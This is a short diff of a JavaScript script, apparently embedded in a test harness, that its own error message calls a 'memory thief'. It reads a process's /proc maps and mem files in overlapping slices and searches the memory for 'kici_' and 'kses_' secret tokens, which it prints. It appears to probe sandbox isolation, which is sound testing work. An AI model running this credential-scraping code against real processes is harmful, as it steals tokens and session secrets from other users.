@@ -58,16 +58,21 @@ try {
   maps = fs.readFileSync('/proc/' + pid + '/maps', 'utf8').split('\\n');
   fd = fs.openSync('/proc/' + pid + '/mem', 'r');
 } catch (e) { console.error('memory thief: ' + e.code); maps = []; }
+// In slices with an overlap (a secret may straddle two), so a small guest's memory is enough.
+const SLICE = 1 << 20, OVERLAP = 64;
+const buf = Buffer.alloc(SLICE + OVERLAP);
 for (const line of maps) {
   const [range, perms] = line.split(' ');
   if (!range || !perms.startsWith('r')) continue;
   const [a, b] = range.split('-').map((x) => parseInt(x, 16));
-  if (b - a > 512 * 1024 * 1024) continue;
-  const buf = Buffer.alloc(b - a);
-  try { fs.readSync(fd, buf, 0, b - a, a); } catch { continue; }
-  const text = buf.toString('latin1');
-  token ??= text.match(/kici_[A-Za-z0-9_-]{43}/)?.[0];
-  proof ??= text.match(/kses_[A-Za-z0-9_-]{43}/)?.[0];
+  for (let at = a; at < b && !(token && proof); at += SLICE) {
+    const len = Math.min(SLICE + OVERLAP, b - at);
+    let n;
+    try { n = fs.readSync(fd, buf, 0, len, at); } catch { break; }
+    const text = buf.toString('latin1', 0, n);
+    token ??= text.match(/kici_[A-Za-z0-9_-]{43}/)?.[0];
+    proof ??= text.match(/kses_[A-Za-z0-9_-]{43}/)?.[0];
+  }
 }
 console.log((token ?? 'none') + ' ' + (proof ?? 'none'));
 `;
